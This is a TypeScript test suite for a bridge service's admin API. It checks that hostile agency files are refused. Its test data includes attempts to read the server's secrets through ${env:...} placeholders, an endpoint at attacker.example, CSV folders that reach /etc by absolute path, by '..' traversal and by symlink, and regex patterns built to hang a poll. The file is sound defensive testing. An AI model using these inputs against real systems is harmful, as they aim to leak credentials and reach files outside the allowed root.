import { promises as fs } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import request from 'supertest';
import { exampleAgency, withOverrides } from '@bridge/testing';
import { HostileGateway, startHostileGateway } from './hostile-gateway';
import { HostileTally } from './hostile-tally';

const tally = new HostileTally('agency files');
const CSV_AGENCY = '000.00.21.H48';

/**
 * An admin key sends agency files over `PUT /api/v1/agencies/:code` that try to reach the
 * bridge's own secrets (`${env:...}`) or its disk (CSV folders outside the agency files root).
 * Each is refused with 422 naming the problem, and nothing is stored.
 */
describe('hostile: agency files cannot reach the bridge’s secrets or files', () => {
  let gateway: HostileGateway;
  let filesRoot: string;

  beforeAll(async () => {
    filesRoot = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-agency-files-')));
    gateway = await startHostileGateway('files', {
      env: { BRIDGE_AGENCY_FILES_ROOT: filesRoot, BRIDGE_AGENCY_HAICHAU_PASSWORD: 'mat-khau-tu-env' },
    });
  });

  afterAll(async () => {
    tally.print();
    await gateway?.close();
    await fs.rm(filesRoot, { recursive: true, force: true });
  });

  const put = (code: string, body: Record<string, unknown>) =>
    request(gateway.server())
      .put(`/api/v1/agencies/${code}`)
      .set('Authorization', `Bearer ${gateway.adminKey}`)
      .send(body);

  /** A SOAP agency whose password is `password` and whose endpoint is the attacker's. */
  const soapAgency = (password: string) =>
    withOverrides(exampleAgency('soap'), {
      adapter: { endpoint: 'https://attacker.example/collect', auth: { password } },
    });

  /** The CSV agency with its folders below the root, but for `overrides`. */
  const csvAgency = (overrides: Record<string, string>) => {
    const dir = (name: string) => path.join(filesRoot, 'sontra', name);
    return withOverrides(exampleAgency('csv-drop'), {
      adapter: {
        options: {
          inboxDir: dir('vao'),
          outboxDir: dir('ra'),
          archiveDir: dir('luu-tru'),
          failedDir: dir('loi'),
          rejectDir: dir('dong-loi'),
          ...overrides,
        },
      },
    });
  };

  async function refused(label: string, code: string, body: Record<string, unknown>, reason: RegExp) {
    const before = await gateway.rowCounts();
    const response = await put(code, body);
    const after = await gateway.rowCounts();
    const text = JSON.stringify(response.body);
    tally.record(label, {
      clean: response.status === 422 && reason.test(text),
      crashed: response.status >= 500,
      halfApplied: JSON.stringify(after) !== JSON.stringify(before),
    });
    expect({ label, status: response.status }).toEqual({ label, status: 422 });
    expect(text).toMatch(reason);
    expect(text).not.toContain(process.env.BRIDGE_SECRET_KEY ?? 'development-only-secret-key');
    expect(after).toEqual(before);
  }

  it('accepts a file whose secrets are written out and whose folders lie below the root (the control)', async () => {
    expect((await put('000.00.53.H48', soapAgency('Doi-Mat-Khau-Nay'))).status).toBe(200);
    expect((await put(CSV_AGENCY, csvAgency({}))).status).toBe(200);
  });

  it("refuses ${env:...} of the bridge's own secrets and, over the API, of any variable", async () => {
    for (const name of ['BRIDGE_SECRET_KEY', 'DATABASE_URL', 'BRIDGE_BOOTSTRAP_ADMIN_KEY', 'HOME']) {
      await refused(
        `\${env:${name}} over the API`,
        '000.00.53.H48',
        soapAgency(`\${env:${name}}`),
        new RegExp(
          `agency files sent over the HTTP API may not read environment variables \\(\\$\\{env:${name}\\}\\)`,
        ),
      );
    }
    // Even a name agency files may read from the CLI is closed to the API unless the operator opens it.
    await refused(
      '${env:BRIDGE_AGENCY_*} over the API',
      '000.00.53.H48',
      soapAgency('${env:BRIDGE_AGENCY_HAICHAU_PASSWORD}'),
      /may not read environment variables/,
    );
  });

  it('refuses CSV folders outside the agency files root, by path, by .. and by a link leading out', async () => {
    await refused(
      'inbox in /etc',
      CSV_AGENCY,
      csvAgency({ inboxDir: '/etc' }),
      /folder \/etc lies outside the agency files root/,
    );
    await refused(
      'archive climbing out with ..',
      CSV_AGENCY,
      csvAgency({ archiveDir: path.join(filesRoot, '..', '..', 'var', 'lib') }),
      /lies outside the agency files root/,
    );
    await refused(
      'reject folder relative to the working directory',
      CSV_AGENCY,
      csvAgency({ rejectDir: 'dist' }),
      /outside the agency files root/,
    );
    await fs.symlink('/etc', path.join(filesRoot, 'ra-link'));
    await refused(
      'outbox through a link leading out',
      CSV_AGENCY,
      csvAgency({ outboxDir: path.join(filesRoot, 'ra-link') }),
      /ra-link lies outside the agency files root/,
    );
  });

  it('refuses file patterns that could hang a poll or skip files', async () => {
    const withPattern = (filePattern: string) => {
      const agency = csvAgency({});
      (agency.adapter as { options: Record<string, unknown> }).options.filePattern = filePattern;
      return agency;
    };
    const patterns: [string, string, RegExp][] = [
      [
        'nested repetition',
        '/^(TRANGTHAI_(\\w+)+)+\\.csv$/',
        /could take exponential time on some file names/,
      ],
      ['overlapping repetition', '/^(a|a?)+$/', /exponential time/],
      ['g flag', '/^TRANGTHAI_.*\\.csv$/g', /may not use the g or y flag/],
      ['y flag', '/^TRANGTHAI_.*\\.csv$/iy', /may not use the g or y flag/],
    ];
    for (const [label, pattern, reason] of patterns)
      await refused(`${label} in filePattern`, CSV_AGENCY, withPattern(pattern), reason);
  });
});
